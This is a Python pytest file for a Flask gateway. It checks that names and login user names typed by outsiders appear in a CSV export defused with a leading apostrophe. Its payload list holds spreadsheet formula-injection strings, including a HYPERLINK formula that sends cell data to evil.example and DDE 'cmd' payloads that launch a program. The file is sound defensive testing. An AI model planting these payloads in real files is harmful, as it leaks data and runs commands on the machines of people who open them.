"""Formula injection: text typed by outsiders (a holder's name at the desk, a user name at the login form) reaches
the leads' CSV export (gateway/exports.py) and must open in a spreadsheet as text, never run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from flask.testing import FlaskClient

from gateway import contract
from gateway.cli import add_operator
from gateway.exports import FORMULA_STARTS
from gateway.web import create_app
from tests.factories import badged_holder, decision_service

PAYLOADS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csrf(client: FlaskClient, path: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', client.get(path).get_data(as_text=True))
    assert match, path
    return match.group(1)


@pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)
def test_outsiders_text_is_never_a_formula_in_the_csv_export(instance, site) -> None:  # type: ignore[no-untyped-def]
    now = dt.datetime.now(dt.UTC)
    service = decision_service(instance, site, lambda: now)
    for i, text in enumerate(p for p in PAYLOADS if p.isprintable()):  # the desk refuses control characters
        badge = badged_holder(instance, site, ["STADIUM-PERIMETER"], now, name=(text, f"Given{i}"))
        request = contract.DecisionRequest(reader="STA-G1-IN", nonce=f"{i:032x}", token=badge.token, sent_ms=0)
        assert service.answer(request).allow
    app = create_app(instance.folder, {"SESSION_COOKIE_SECURE": False})
    guesser = app.test_client()
    for text in PAYLOADS:  # each failed login writes the typed user name into the audit
        guesser.post("/login", data={"username": text, "password": "x", "csrf_token": _csrf(guesser, "/login")})
    add_operator(instance, "lead-x", "lead", "pw-lead-x-1")
    lead = app.test_client()
    lead.post("/login", data={"username": "lead-x", "password": "pw-lead-x-1", "csrf_token": _csrf(lead, "/login")})
    token = _csrf(lead, "/leads/search?kind=any")
    response = lead.post("/leads/search/export.csv?kind=any", data={"csrf_token": token})
    assert response.status_code == 200, response.status_code
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    # The payloads are all there (the export is complete), each defused with a leading apostrophe.
    for text in PAYLOADS:  # the login form strips the user name: "\t=1+1" arrives as "=1+1"
        assert "'" + text.strip() in cells or "'" + text in cells, (text, cells)
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)]
    assert dangerous == []


def _number(cell: str) -> bool:
    """Negative numbers (a signed count or time) are data a spreadsheet reads as numbers, not formulas."""
    return re.fullmatch(r"-\d+(\.\d+)?", cell) is not None
